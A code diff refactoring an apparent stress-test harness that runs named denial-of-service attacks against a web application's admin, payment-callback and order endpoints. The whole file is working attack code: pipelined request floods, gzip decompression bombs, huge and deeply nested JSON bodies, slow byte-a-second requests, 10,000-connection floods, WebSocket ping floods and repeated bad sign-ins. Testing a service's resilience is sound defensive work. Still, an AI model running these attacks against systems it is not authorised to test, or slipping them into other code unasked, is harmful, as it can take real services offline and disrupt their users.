@@ -2,8 +2,8 @@
 import { once } from 'node:events';
 import { connect, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { gzipSync } from 'node:zlib';
 import { WebSocket } from 'ws';
+import { array, bundle, deep, head, keys, login, notify, orders, post, zipped } from './requests.js';
 
 export interface Target {
   host: string;
@@ -13,19 +13,21 @@ export interface Target {
   seconds: number;
 }
 
-type Attack = (target: Target) => Promise<string>;
+type Attack = (field: Field) => Promise<unknown>;
 
 /** Connections that fit into the open files of one process (ulimit -n), of the 10,000 that are tried. */
 export const most = 10_000;
 
-/** Counts what came back. */
-class Field {
+/** An attack under way: its connections, and what came back. */
+export class Field {
   readonly sockets = new Set<Socket>();
   readonly target: Target;
   readonly until: number;
   opened = 0;
   refused = 0;
   sent = 0;
+  /** What was sent. */
+  what = 'requests';
   readonly statuses = new Map<string, number>();
 
   constructor(target: Target) {
@@ -82,12 +84,12 @@ class Field {
   }
 
   /** Ends all connections. @returns what happened */
-  end(what = 'requests'): string {
+  end(): string {
     const held = this.sockets.size;
     for (const socket of this.sockets) socket.destroy();
     const answers = [...this.statuses].sort().map(([status, times]) => `${status}: ${times}`);
     return [
-      `${this.sent || this.opened} ${this.sent ? what : 'connections'}`,
+      `${this.sent || this.opened} ${this.sent ? this.what : 'connections'}`,
       this.sent && this.opened !== this.sent ? `${this.opened} connections` : '',
       held ? `${held} open at the end` : '',
       answers.join(', '),
@@ -97,56 +99,24 @@ class Field {
   }
 }
 
-const head = (method: string, path: string, more = ''): string =>
-  `${method} ${path} HTTP/1.1\r\nHost: a\r\n${more}\r\n`;
-
-/** A JSON request. */
-export const post = (path: string, body: string | Buffer, more = ''): Buffer =>
-  Buffer.concat([
-    Buffer.from(
-      head(
-        'POST',
-        path,
-        `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n${more}`,
-      ),
-    ),
-    Buffer.from(body as string),
-  ]);
-
-const login = '/api/admin/login';
-const notify = '/api/payment/notify/mock';
-const orders = '/api/admin/orders';
-const bundle = '/docs/swagger-ui-bundle.js';
-
-const objects = (count: number): string => `[${Array<string>(count).fill('{}').join(',')}]`;
-const keys = (count: number): string =>
-  `{${Array.from({ length: count }, (_, key) => `"k${key}":{}`).join(',')}}`;
-const deep = (levels: number): string => `{"a":${'['.repeat(levels)}${']'.repeat(levels)}}`;
-const bomb = (bytes: number): Buffer => gzipSync(Buffer.alloc(bytes, ' '));
-
-const owned = ({ authorization }: Target): string => `Authorization: ${authorization}\r\n`;
+const owned = ({ target }: Field): string => `Authorization: ${target.authorization}\r\n`;
 
 /** Attacks by name. */
 export const attacks: Record<string, Attack> = {
-  async 'documentation, pipelined 1,100-fold and never read'(target) {
-    const field = new Field(target);
+  async 'documentation, pipelined 1,100-fold and never read'(field) {
     await field.repeat(6, async () => {
       const socket = field.open(1, { reads: false });
       field.sent += 1100;
       socket.write(head('GET', bundle).repeat(1100));
       await Promise.race([once(socket, 'close'), sleep(1000)]);
     });
-    return field.end();
   },
 
-  async 'documentation, read as fast as it comes'(target) {
-    const field = new Field(target);
+  async 'documentation, read as fast as it comes'(field) {
     await field.repeat(20, () => field.ask(head('GET', bundle, 'Connection: close\r\n')));
-    return field.end();
   },
 
-  async 'pipelined requests, never read'(target) {
-    const field = new Field(target);
+  async 'pipelined requests, never read'(field) {
     await field.repeat(50, async () => {
       const socket = field.open(1, { reads: false });
       field.sent += 1000;
@@ -154,97 +124,73 @@ export const attacks: Record<string, Attack> = {
       await Promise.race([once(socket, 'close'), sleep(500)]);
       socket.destroy();
     });
-    return field.end();
   },
 
-  async 'requests abandoned at once'(target) {
-    const field = new Field(target);
+  async 'requests abandoned at once'(field) {
     await field.repeat(20, async () => {
       const socket = field.open();
       field.sent++;
-      socket.write(head('GET', `${orders}?keyword=x${field.sent}`, owned(target)));
+      socket.write(head('GET', `${orders}?keyword=x${field.sent}`, owned(field)));
       await sleep(2);
       socket.destroy();
     });
-    return field.end();
   },
 
-  async 'gzip bombs: 1 MB in 1 KB'(target) {
-    const field = new Field(target);
+  async 'gzip bombs: 1 MB in 1 KB'(field) {
     const bodies = [
-      post(
-        orders,
-        gzipSync(`{"user_id":1,"details":[${'1,'.repeat(500_000)}1]}`),
-        `Content-Encoding: gzip\r\n${owned(target)}`,
-      ),
-      post(login, bomb(1_048_000), 'Content-Encoding: gzip\r\n'),
-      post(notify, bomb(1_048_000), 'Content-Encoding: gzip\r\n'),
+      zipped(orders, `{"user_id":1,"details":${array('1', 500_000)}}`, owned(field)),
+      zipped(login, ' '.repeat(1_048_000)),
+      zipped(notify, ' '.repeat(1_048_000)),
     ];
     await field.repeat(20, () => field.ask(bodies[field.sent % bodies.length] as Buffer));
-    return field.end();
   },
 
-  async 'gzip bombs kept open: 1,000 connections'(target) {
-    const field = new Field(target);
-    const request = post(login, bomb(1_048_000), 'Content-Encoding: gzip\r\n').subarray(0, -9);
+  async 'gzip bombs kept open: 1,000 connections'(field) {
+    const request = zipped(login, ' '.repeat(1_048_000)).subarray(0, -9);
     for (let index = 0; index < 1000; index++) field.open(4).write(request);
-    await sleep(target.seconds * 1000);
-    return field.end();
+    await sleep(field.target.seconds * 1000);
   },
 
-  async 'huge arrays, many keys, deep JSON (signed in)'(target) {
-    const field = new Field(target);
+  async 'huge arrays, many keys, deep JSON (signed in)'(field) {
     const bodies = [
-      post(orders, `{"user_id":1,"details":${objects(60_000)}}`, owned(target)),
-      post(orders, `{"user_id":1,"details":${objects(200)}}`, owned(target)),
-      post(orders, keys(6000), owned(target)),
-      post(orders, deep(30_000), owned(target)),
-      post(orders, `{"user_id":1,"details":[${'1,'.repeat(120_000)}1]}`, owned(target)),
+      post(orders, `{"user_id":1,"details":${array('{}', 60_000)}}`, owned(field)),
+      post(orders, `{"user_id":1,"details":${array('{}', 200)}}`, owned(field)),
+      post(orders, keys(6000), owned(field)),
+      post(orders, deep(30_000), owned(field)),
+      post(orders, `{"user_id":1,"details":${array('1', 120_000)}}`, owned(field)),
     ];
     await field.repeat(8, () => field.ask(bodies[field.sent % bodies.length] as Buffer));
-    return field.end();
   },
 
-  async 'huge arrays, many keys, deep JSON (anonymous)'(target) {
-    const field = new Field(target);
+  async 'huge arrays, many keys, deep JSON (anonymous)'(field) {
     const bodies = [
-      ...[`{"z":${objects(20_000)}}`, keys(6000), deep(30_000)].map((body) => post(notify, body)),
-      ...[`{"username":"a","password":"b","z":${objects(1200)}}`, deep(1900)].map((body) =>
+      ...[`{"z":${array('{}', 20_000)}}`, keys(6000), deep(30_000)].map((body) => post(notify, body)),
+      ...[`{"username":"a","password":"b","z":${array('{}', 1200)}}`, deep(1900)].map((body) =>
         post(login, body),
       ),
-      post(login, `{"z":${objects(300_000)}}`),
+      post(login, `{"z":${array('{}', 300_000)}}`),
     ];
     await field.repeat(8, () => field.ask(bodies[field.sent % bodies.length] as Buffer));
-    return field.end();
   },
 
-  async 'slow heads: a byte a second'(target) {
-    const field = new Field(target);
+  async 'slow heads: a byte a second'(field) {
     await drip(field, Buffer.from(head('GET', '/healthz', `X: ${'x'.repeat(500)}\r\n`)), 1500);
-    return field.end();
   },
 
-  async 'slow bodies: a byte a second'(target) {
-    const field = new Field(target);
+  async 'slow bodies: a byte a second'(field) {
     const request = post(notify, `{"a":"${'x'.repeat(60_000)}"}`);
     await drip(field, request, 1500, request.indexOf('{'));
-    return field.end();
   },
 
-  async '10,000 idle connections from one address'(target) {
-    const field = new Field(target);
+  async '10,000 idle connections from one address'(field) {
     await crowd(field, 1);
-    return field.end();
   },
 
-  async '10,000 idle connections from 200 addresses'(target) {
-    const field = new Field(target);
+  async '10,000 idle connections from 200 addresses'(field) {
     await crowd(field, 200);
-    return field.end();
   },
 
-  async '10,000 requests at once, each over its own connection'(target) {
-    const field = new Field(target);
+  async '10,000 requests at once, each over its own connection'(field) {
     const requests = [
       head('GET', orders),
       head('GET', `/${'a/'.repeat(3000)}`),
@@ -254,27 +200,26 @@ export const attacks: Record<string, Attack> = {
     ];
     await Promise.all(
       Array.from({ length: most }, async (_, index) => {
-        await sleep((index / most) * target.seconds * 900);
+        await sleep((index / most) * field.target.seconds * 900);
         await field.ask(requests[index % requests.length] as string, 200);
       }),
     );
-    return field.end();
   },
 
-  async 'event streams of one administrator'(target) {
-    const field = new Field(target);
+  async 'event streams of one administrator'(field) {
+    field.what = 'streams';
     await field.repeat(20, async () => {
       const socket = field.open(4);
       field.sent++;
-      socket.write(head('GET', '/api/admin/dashboard/stream?interval=2', owned(target)));
+      socket.write(head('GET', '/api/admin/dashboard/stream?interval=2', owned(field)));
       await field.answered(socket);
       await sleep(20);
     });
-    return field.end('streams');
   },
 
-  async 'sockets of one administrator, ping flood, never read'(target) {
-    const field = new Field(target);
+  async 'sockets of one administrator, ping flood, never read'(field) {
+    field.what = 'sockets';
+    const { target } = field;
     const address = `${target.host}:${target.port}`;
     const open = new Set<WebSocket>();
     await field.repeat(4, async () => {
@@ -294,38 +239,29 @@ export const attacks: Record<string, Attack> = {
       await sleep(10);
     });
     for (const socket of open) socket.terminate();
-    return field.end('sockets');
   },
 
-  async 'sockets without a ticket'(target) {
-    const field = new Field(target);
+  async 'sockets without a ticket'(field) {
     const upgrade = `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${'a'.repeat(22)}==\r\n`;
     await field.repeat(20, () => field.ask(head('GET', '/ws/admin/notifications?ticket=x', upgrade), 4));
-    return field.end();
   },
 
-  async 'sign-ins with wrong captchas, and captchas'(target) {
-    const field = new Field(target);
+  async 'sign-ins with wrong captchas, and captchas'(field) {
     const body = '{"username":"admin","password":"wrong","captcha_id":"x","captcha_code":"y"}';
     await field.repeat(20, () =>
       field.ask(field.sent % 4 ? post(login, body) : head('GET', '/api/admin/login/captcha'), 50),
     );
-    return field.end();
   },
 
-  async 'sign-ins with made-up names from one address'(target) {
-    const field = new Field(target);
+  async 'sign-ins with made-up names from one address'(field) {
     await field.repeat(40, () =>
       field.ask(post(login, `{"username":"nobody-${field.sent}","password":"wrong"}`)),
     );
-    return field.end();
   },
 
-  async 'refused callbacks of 24 KB'(target) {
-    const field = new Field(target);
+  async 'refused callbacks of 24 KB'(field) {
     const body = `{"out_trade_no":"PAY1","x":"${'x'.repeat(24_000)}"}`;
     await field.repeat(8, () => field.ask(post(notify, body)));
-    return field.end();
   },
 };
 
